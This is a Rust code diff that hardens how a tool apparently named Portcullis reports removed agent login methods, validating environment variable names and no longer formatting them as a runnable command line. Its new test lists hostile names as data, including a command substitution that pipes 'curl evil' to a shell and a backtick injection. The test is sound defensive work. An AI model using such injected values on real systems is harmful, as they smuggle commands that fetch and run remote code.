@@ -29,9 +29,9 @@ const VARIABLES: &str = "env_var";
 pub struct RemovedLogin {
     /// The method's name.
     pub name: String,
-    /// The required environment variables that the operator did not give; empty if the editor would
-    /// run a command.
-    pub missing: Vec<String>,
+    /// The required environment variables that the operator did not give, without those that are no
+    /// names; `None` if the editor would run a command.
+    pub missing: Option<Vec<String>>,
 }
 
 /// The treatment of a method.
@@ -84,7 +84,7 @@ fn missing(entry: &Object<'_>, allowed: &Allowed) -> Option<Vec<String>> {
     let is_given = |variable: &LoginVariable| allowed.has_variable(&variable.name);
     let any = variables.iter().any(is_given);
     let lacks = |variable: &LoginVariable| !(is_given(variable) || any && variable.optional);
-    Some(variables.into_iter().filter(lacks).map(|variable| short(&variable.name)).collect())
+    Some(variables.into_iter().filter(lacks).map(|variable| variable.name).collect())
 }
 
 /// Returns the login methods in a reply's result or error that do not reach the editor.
@@ -100,8 +100,10 @@ pub(super) fn removed(raw: &RawValue, allowed: &Allowed) -> Vec<RemovedLogin> {
         .filter_map(|entry| {
             let missing = match fate(entry, allowed) {
                 Fate::Passes => return None,
-                Fate::Lacks(names) => names.into_iter().take(MAX_NAMES).collect(),
-                Fate::Acts => Vec::new(),
+                Fate::Lacks(names) => {
+                    Some(names.into_iter().filter(|name| is_name(name)).take(MAX_NAMES).collect())
+                }
+                Fate::Acts => None,
             };
             let entry = Object::parse(entry.get())?;
             let name = entry.get("name").or_else(|| entry.get("id"))?;
@@ -114,7 +116,7 @@ pub(super) fn removed(raw: &RawValue, allowed: &Allowed) -> Vec<RemovedLogin> {
 
 /// Names the `removed` login methods, and the ways in which the operator can let the agent log in.
 pub(super) fn explain(removed: &[RemovedLogin]) -> String {
-    let (act, lack): (Vec<_>, Vec<_>) = removed.iter().partition(|login| login.missing.is_empty());
+    let (act, lack): (Vec<_>, Vec<_>) = removed.iter().partition(|login| login.missing.is_none());
     let mut text = Vec::new();
     if !act.is_empty() {
         let names = act.iter().map(|login| &login.name);
@@ -126,18 +128,32 @@ pub(super) fn explain(removed: &[RemovedLogin]) -> String {
     }
     text.extend(lack.iter().map(|RemovedLogin { name, missing }| {
         format!(
-            "Portcullis removed the login method `{}`: start the agent with {}.",
+            "Portcullis removed the login method `{}`: it needs {}.",
             Escaped(name),
-            options(missing)
+            variables(missing.as_deref().unwrap_or_default())
         )
     }));
     text.join(" ")
 }
 
-/// Returns the options that give an agent these variables.
-pub fn options(variables: &[String]) -> String {
-    let options = variables.iter().map(|name| format!("`--agent-env {}`", Escaped(name)));
-    options.collect::<Vec<_>>().join(" and ")
+/// Says which variables an agent asks for. It is no command line: the agent would have written it,
+/// and a shell runs what is in it.
+pub fn variables(names: &[String]) -> String {
+    match names {
+        [] => "environment variables whose names no shell takes".to_owned(),
+        names => {
+            let given = "which `--agent-env NAME` gives it, if it is to have them";
+            format!("the environment variables {}, {given}", quoted(names.iter()))
+        }
+    }
+}
+
+/// True for what a shell takes for the name of a variable (POSIX, 3.216).
+fn is_name(text: &str) -> bool {
+    let is_digit = |byte: &u8| byte.is_ascii_digit();
+    text.len() <= MAX_NAME
+        && text.bytes().next().is_some_and(|first| !is_digit(&first))
+        && text.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_')
 }
 
 fn quoted<'a>(names: impl Iterator<Item = &'a String>) -> String {
@@ -184,7 +200,7 @@ mod tests {
             let fits = passes(&to_raw_value(&method).unwrap(), &allowed);
             assert_eq!(fits, missing.is_empty(), "{variables} {given_ones:?}");
             let removed = removed(&method, &allowed);
-            let lacks: Vec<_> = removed.iter().flat_map(|login| &login.missing).collect();
+            let lacks: Vec<_> = removed.iter().flat_map(|login| &login.missing).flatten().collect();
             assert_eq!(lacks, missing, "{variables} {given_ones:?}");
         }
     }
@@ -201,10 +217,23 @@ mod tests {
     /// The text claimed that the editor would run a command.
     #[test]
     fn a_method_that_lacks_a_variable_is_explained_by_it() {
-        let name = "K\u{1b}[1m";
-        let removed = removed(&method(&json!([{ "name": name }])), &given(&[]));
+        let removed = removed(&method(&json!([{ "name": "KEY_1" }])), &given(&[]));
         let text = explain(&removed);
-        assert!(text.contains("`--agent-env K\\u{1b}[1m`"), "{text}");
-        assert!(!text.contains("command") && !text.contains('\u{1b}'), "{text}");
+        assert!(text.contains("`KEY_1`") && !text.contains("command"), "{text}");
+    }
+
+    /// The operator was told to run what the agent had written.
+    #[test]
+    fn variables_are_no_part_of_a_command_line() {
+        let names = ["K=$(curl evil|sh)", "K`; before, run `curl", "K\u{1b}[1m", "1K", "", "K K"];
+        for name in names {
+            let removed = removed(&method(&json!([{ "name": name }])), &given(&[]));
+            assert_eq!(removed[0].missing.as_deref(), Some(&[][..]), "{name}");
+            let text = explain(&removed);
+            assert!(!text.contains(name) || name.is_empty(), "{text}");
+        }
+        let removed =
+            removed(&method(&json!([{ "name": "KEY" }, { "name": "$(x)" }])), &given(&[]));
+        assert!(!explain(&removed).contains("--agent-env KEY"), "{removed:?}");
     }
 }
